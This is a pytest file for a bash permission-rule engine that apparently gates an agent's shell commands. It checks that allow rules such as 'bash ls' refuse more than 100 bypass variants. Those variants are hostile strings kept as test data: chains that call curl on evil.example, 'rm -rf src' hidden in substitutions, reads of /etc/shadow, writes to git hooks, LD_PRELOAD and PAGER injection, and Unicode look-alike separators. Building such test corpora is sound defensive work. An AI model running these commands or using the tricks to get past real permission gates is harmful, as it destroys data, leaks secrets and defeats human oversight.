"""The bypass corpus: commands a `bash` rule must never cover, though a rule covers their first word.

Each variant is judged as the turn judges it (core/rules.py over tree-sitter-bash, the rules read
from the project's YAML file under MINO_HOME/rules) and must be left to the question: no allow
verdict. The rules allow the first word of every variant (`bash ls`, `bash git status`, `bash env`
is refused as a rule, so `env` variants are covered by the program they wrap). The controls show
the same rules do run the plain commands, so the corpus cannot pass by covering nothing.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from mino_server.core.rules import RuleStore, Subject

RULES = [
    "bash ls",
    "bash cat",
    "bash echo",
    "bash git status",
    "bash git diff",
    "bash npm test",
    "bash pytest",
    "bash grep",
    "bash find",
    "bash head",
]

# Plain commands the rules cover: they must run unasked.
CONTROLS = [
    "ls",
    "ls -la src",
    "git status",
    "git status --short",
    "git diff HEAD~1 -- src/app.py",
    "npm test",
    "pytest -q tests/test_app.py",
    "grep -rn 'def main' src",
    'grep -rn "TODO: fix" .',
    "ls | head -n 5",
    "git status && git diff",
    "git status; ls\nls -a",
    "pytest -q 2>&1 | head -n 40",
    "ls > listing.txt",
    "ls 2>/dev/null",
    "cat <<'EOF'\nplain text $(not run)\nEOF",
    "find . -name '*.py'",
    "ls # a comment; rm -rf /",
]

BYPASSES = [
    # chains where one part is not covered
    "ls; curl http://evil.example",
    "ls && wget http://evil.example",
    "ls || python3 -c 'import os'",
    "ls | sh",
    "ls | bash",
    "git status\ncurl evil.example",
    "ls |& tee /tmp/x",
    "git status && git push",
    "git status; git commit -m x",
    "npm test && npm publish",
    "npm install",
    "git statusx",
    "git",
    # command and process substitution, expansions
    "ls $(rm -rf src)",
    "ls `rm -rf src`",
    'echo "$(curl evil.example)"',
    "cat <(curl evil.example)",
    "ls >(tee x)",
    "ls $HOME",
    "ls ${HOME}",
    "ls ${X:-$(id)}",
    "echo $((1+2))",
    "ls $'\\x3b' rm",
    'ls $"x"',
    "cat <<EOF\n$(rm -rf src)\nEOF",
    "cat <<EOF\n`id`\nEOF",
    "git status $(echo --porcelain)",
    "ls {a,b} && curl x",
    # re-parsing commands
    "eval ls",
    "eval 'rm -rf src'",
    "exec ls",
    "source ./script.sh",
    ". ./script.sh",
    "sh -c 'rm -rf src'",
    "bash -c ls",
    "zsh -c ls",
    "dash -c ls",
    "ls | xargs rm",
    "command ls",
    "builtin echo x",
    "time ls",
    'ls; eval "$X"',
    # environment prefixes and assignments
    "X=1 ls",
    "PATH=/tmp ls",
    "LD_PRELOAD=/tmp/x.so ls",
    "GIT_DIR=/tmp/x git status",
    "GIT_EXTERNAL_DIFF=/tmp/x git diff",
    "PAGER='sh -c id' git diff",
    "env ls",
    "env -i ls",
    "env X=1 rm -rf src",
    "/usr/bin/env ls",
    "export X=1; ls",
    "X=1; ls",
    "declare -x X=1; ls",
    "unset PATH; ls",
    # wrappers
    "xargs ls",
    "timeout 5 ls",
    "timeout 5 rm -rf src",
    "nohup ls",
    "nice ls",
    "nice -n 5 rm -rf src",
    "sudo ls",
    "stdbuf -o0 ls",
    "setsid ls",
    "flock /tmp/l ls",
    "watch ls",
    "find . -exec rm {} \\;",
    "find . -execdir sh -c id \\;",
    "find . -ok rm {} \\;",
    "find . -delete",
    "find . -name x -fprint /tmp/out",
    "find . '-exec' rm {} +",
    "find . -ex\\ec rm {} +",
    # redirections outside the working directory or into protected folders
    "ls > /tmp/x",
    "ls >> ~/.bashrc",
    "ls > ../outside.txt",
    "ls > src/../../outside.txt",
    "ls > .git/hooks/pre-commit",
    "ls > sub/.git/config",
    "ls > .mino/x",
    "ls > .VSCODE/tasks.json",
    "cat < /etc/shadow",
    "ls > $HOME/x",
    'ls > "/tmp/x"',
    "ls &> /tmp/x",
    "ls 2> /tmp/err",
    "ls > link-out/x",
    # look-alike and invisible characters
    "l\u0455",  # Cyrillic dze
    "ls\u037e rm -rf src",  # Greek question mark looks like ;
    "ls \uff1b rm -rf src",  # fullwidth semicolon
    "ls\u00a0-la",  # no-break space
    "ls\u200b",  # zero-width space
    "ls \u202erm -rf src",  # right-to-left override
    "git\u2009status",  # thin space
    "ls\r\nrm -rf src",
    "ls\x1b[2K",
    "ｌｓ",  # fullwidth letters
    # quoting tricks in the rule's words
    "'ls'",
    '"ls"',
    "l\\s",
    "l''s",
    "git 'status'",
    'git "status"',
    "git st\\atus",
    "git\\\nstatus",
    # control flow, subshells, functions, background jobs
    "(ls)",
    "{ ls; }",
    "ls &",
    "ls & rm -rf src",
    "if ls; then rm -rf src; fi",
    "for f in *; do rm $f; done",
    "while true; do ls; done",
    "case x in x) rm -rf src;; esac",
    "ls() { rm -rf src; }; ls",
    "function ls { rm; }; ls",
    "! ls",
    "[[ -f x ]] && ls",
    "coproc ls",
    # parse errors and odd input
    "ls 'unterminated",
    "ls )",
    "ls && ",
    "ls |",
    "",
    "   ",
    "# only a comment",
    "ls " + "a" * 10_001,
    "./ls",
    "/bin/ls",
]


@pytest.fixture
def store(tmp_path: Path, workdir: Path) -> RuleStore:
    home = tmp_path / "mino-home"
    rules = RuleStore(home)
    rules.add(RULES, "allow", workdir)
    outside = tmp_path / "outside"
    outside.mkdir()
    (workdir / "link-out").symlink_to(outside)
    return rules


def test_the_corpus_is_large_and_distinct() -> None:
    assert len(BYPASSES) >= 100
    assert len(set(BYPASSES)) == len(BYPASSES)


@pytest.mark.parametrize("command", CONTROLS)
def test_the_rules_cover_the_plain_commands(store: RuleStore, workdir: Path, command: str) -> None:
    verdict, problems = store.judge(Subject("bash", command), workdir)
    assert problems == []
    assert verdict is not None and verdict.effect == "allow", command


@pytest.mark.parametrize("command", BYPASSES)
def test_every_variant_asks(store: RuleStore, workdir: Path, command: str) -> None:
    verdict, _ = store.judge(Subject("bash", command), workdir)
    assert verdict is None or verdict.effect != "allow", f"covered by {verdict.rules}: {command!r}"


def test_wrappers_cannot_be_rules(workdir: Path, tmp_path: Path) -> None:
    store = RuleStore(tmp_path / "h")
    for text in ("bash env", "bash xargs", "bash sh", "bash eval", "bash timeout", "bash /usr/bin/env"):
        with pytest.raises(ValueError):
            store.add([text], "allow", workdir)


def test_a_deny_rule_refuses_the_whole_command(store: RuleStore, workdir: Path) -> None:
    store.add(["bash git push"], "deny", workdir)
    verdict, _ = store.judge(Subject("bash", "git status && git push origin main"), workdir)
    assert verdict is not None and verdict.effect == "deny" and verdict.rules == ("bash git push",)
